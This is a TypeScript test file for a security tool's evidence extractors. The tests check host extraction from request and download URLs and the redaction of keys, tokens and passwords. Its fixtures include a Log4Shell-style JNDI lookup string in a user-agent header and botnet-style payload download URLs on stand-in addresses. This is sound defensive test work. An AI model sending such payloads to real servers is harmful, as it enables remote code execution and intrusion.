import { describe, expect, it } from 'vitest'
import { fieldsOf } from '../../../test/support/tagging.js'
import type { Payload } from '../../events/tagger-event.js'
import { NO_OWN_ADDRESSES } from '../../text/own-addresses.js'
import { payloadEvidence, requestEvidence } from './payload-evidence.js'

const quotation = { matches: [], may: () => true }
const KEY = 'a1b2c3d4'.repeat(8)

function requestOf(payload: Payload) {
  return requestEvidence(fieldsOf({ sourceKind: 'http_request', payload }), NO_OWN_ADDRESSES)(quotation)
}

function downloadOf(url: string) {
  return payloadEvidence(fieldsOf({ sourceKind: 'payload', payload: { url } }), NO_OWN_ADDRESSES)(quotation)
}

describe('requestEvidence', () => {
  it.each([
    { headers: { 'x-api-key': KEY } },
    { headers: { cookie: `sid=${KEY}` } },
    { headers: { authorization: `Bearer ${KEY}` } },
    { headers: { 'x-auth-token': KEY } },
    { body: `pass%77ord=${KEY}` },
    { query: `token=${KEY}` },
  ])('has no room for what may be a key: %j', (payload) => {
    expect(JSON.stringify(requestOf(payload))).not.toContain(KEY)
  })

  it('names the places that a request points to, in headers too', () => {
    const evidence = requestOf({ headers: { 'user-agent': '${jndi:ldap://203.0.113.9:1389/a}' } })
    expect(evidence.observables).toMatchObject({ addresses: ['203.0.113.9'] })
  })
})

describe('payloadEvidence', () => {
  it.each([
    ['http://198.51.100.7/x', '198.51.100.7'],
    ['198.51.100.7/bins.sh', '198.51.100.7'],
    ['tftp://[2001:db8::7]:69/x', '2001:db8::7'],
    ['http://files.example.net:8080/x?y', 'files.example.net'],
  ])('takes the host of %s', (url, host) => {
    expect(downloadOf(url).host).toBe(host)
  })

  it.each(['http://user:s3c/ret@198.51.100.7/x', `http://${'a'.repeat(900_000)}/`, 'http:///x', 'no place'])(
    'takes no part of a password and nothing without bounds for a host (%#)',
    (url) => {
      const text = JSON.stringify(downloadOf(url))
      expect(text).not.toContain('s3c')
      expect(text.length).toBeLessThan(3000)
    },
  )
})
